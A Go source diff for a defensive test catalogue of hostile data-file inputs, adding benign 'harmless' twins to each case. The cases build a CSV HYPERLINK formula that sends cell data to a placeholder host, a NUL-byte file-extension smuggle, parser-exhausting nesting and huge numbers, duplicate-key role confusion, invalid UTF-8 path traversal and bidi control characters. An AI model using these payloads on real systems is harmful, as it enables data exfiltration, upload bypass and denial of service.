@@ -16,38 +16,45 @@ var dataCases = []Case{
 	formula("csv-formula-return", "Formula after a carriage return", "a carriage return, which spreadsheets skip", "\r="+link, "a\r= b"),
 	{Info{
 		Token: "csv-nul", Format: "csv", Title: "NUL byte in a value", Verdict: Reject, CWE: 158,
-		Attack:  "A value has a NUL byte before an allowed extension, and programs in C take the NUL byte for its end.",
-		Failure: "The list of attachments names placeholder.php, or has a NUL byte.",
+		Attack:   "A value has a NUL byte before an allowed extension, and programs in C take the NUL byte for its end.",
+		Failure:  "The list of attachments names placeholder.php, or has a NUL byte.",
+		Harmless: "The value has two extensions and no NUL byte.",
 	}, nulCSV},
 	{Info{
 		Token: "json-deep", Format: "json", Title: "Deeply nested arrays", Verdict: Reject, CWE: 674,
-		Attack:  "Arrays are nested 100,000 deep, to exhaust the stack of a recursive parser.",
-		Failure: "The process crashes, or the request fails with an internal error.",
+		Attack:   "Arrays are nested 100,000 deep, to exhaust the stack of a recursive parser.",
+		Failure:  "The process crashes, or the request fails with an internal error.",
+		Harmless: "Arrays are nested 32 deep.",
 	}, deepJSON},
 	{Info{
 		Token: "json-duplicate-keys", Format: "json", Title: "Duplicate keys", Verdict: Reject, CWE: 436,
-		Attack:  "A key occurs twice, so that a program that takes the first value checks another one than a program that takes the last uses.",
-		Failure: "The check sees the role user, and the record is stored with the role admin.",
+		Attack:   "A key occurs twice, so that a program that takes the first value checks another one than a program that takes the last uses.",
+		Failure:  "The check sees the role user, and the record is stored with the role admin.",
+		Harmless: "The key occurs again in an object within the other.",
 	}, duplicateKeysJSON},
 	{Info{
 		Token: "json-long-number", Format: "json", Title: "Number of a million digits", Verdict: Reject, CWE: 407,
-		Attack:  "A number has 1,000,000 digits, and the time to convert it grows with the square of their number.",
-		Failure: "The request takes seconds of CPU time.",
+		Attack:   "A number has 1,000,000 digits, and the time to convert it grows with the square of their number.",
+		Failure:  "The request takes seconds of CPU time.",
+		Harmless: "The number has 15 digits.",
 	}, longNumberJSON},
 	{Info{
 		Token: "xml-deep", Format: "xml", Title: "Deeply nested elements", Verdict: Reject, CWE: 674,
-		Attack:  "Elements are nested 100,000 deep, to exhaust the stack of a recursive parser.",
-		Failure: "The process crashes, or the request fails with an internal error.",
+		Attack:   "Elements are nested 100,000 deep, to exhaust the stack of a recursive parser.",
+		Failure:  "The process crashes, or the request fails with an internal error.",
+		Harmless: "Elements are nested 32 deep.",
 	}, deepXML},
 	{Info{
 		Token: "text-invalid-utf8", Format: "txt", Title: "Invalid UTF-8", Verdict: Reject, CWE: 176,
-		Attack:  "Bytes that are not UTF-8 stand for ../ if a lenient decoder reads them after the check of the path.",
-		Failure: "The decoded text contains ../, or text that is not UTF-8 is stored.",
+		Attack:   "Bytes that are not UTF-8 stand for ../ if a lenient decoder reads them after the check of the path.",
+		Failure:  "The decoded text contains ../, or text that is not UTF-8 is stored.",
+		Harmless: "The text has characters of two, three and four bytes.",
 	}, invalidUTF8},
 	{Info{
 		Token: "text-bidi", Format: "txt", Title: "Bidirectional control characters", Verdict: Sanitize, CWE: 451,
-		Attack:  "Control characters of bidirectional text show a return statement as a part of a comment.",
-		Failure: "The text is shown in an order that is not that of its characters.",
+		Attack:   "Control characters of bidirectional text show a return statement as a part of a comment.",
+		Failure:  "The text is shown in an order that is not that of its characters.",
+		Harmless: "The comment has Hebrew letters and no control characters.",
 	}, bidiText},
 }
 
@@ -59,8 +66,9 @@ const link = `HYPERLINK("http://placeholder.invalid/?"&A2,"` + Marker + `")`
 func formula(token, title, first, value, harmless string) Case {
 	return Case{Info{
 		Token: token, Format: "csv", Title: title, Verdict: Sanitize, CWE: 1236, ASVS: "1.2.10",
-		Attack:  "A value starts with " + first + ", so that a spreadsheet takes it for a formula that links to a host with data of another cell.",
-		Failure: "A spreadsheet shows " + Marker + " instead of the text of the formula.",
+		Attack:   "A value starts with " + first + ", so that a spreadsheet takes it for a formula that links to a host with data of another cell.",
+		Failure:  "A spreadsheet shows " + Marker + " instead of the text of the formula.",
+		Harmless: "The value has the same characters, and is a text or a number.",
 	}, func(twin bool) []byte {
 		return csvOf([][]string{{"id", "comment"}, {"1", either(twin, harmless, value)}})
 	}}
@@ -75,7 +83,7 @@ func csvOf(rows [][]string) []byte {
 }
 
 func nulCSV(twin bool) []byte {
-	return csvOf([][]string{{"id", "attachment"}, {"1", either(twin, "placeholder.jpg", "placeholder.php\x00.jpg")}})
+	return csvOf([][]string{{"id", "attachment"}, {"1", either(twin, "placeholder.draft.jpg", "placeholder.php\x00.jpg")}})
 }
 
 // Depths of nested elements and arrays. Libraries accept at least 250.
@@ -98,8 +106,8 @@ func deepJSON(twin bool) []byte { return nested(twin, "[", "1", "]") }
 func deepXML(twin bool) []byte { return nested(twin, "<a>", "1", "</a>") }
 
 func duplicateKeysJSON(twin bool) []byte {
-	key := either(twin, "team", "role")
-	return []byte(`{"name": "placeholder", "role": "user", "` + key + `": "admin"}` + "\n")
+	again := either(twin, `"team": {"role": "admin"}`, `"role": "admin"`)
+	return []byte(`{"name": "placeholder", "role": "user", ` + again + "}\n")
 }
 
 func longNumberJSON(twin bool) []byte {
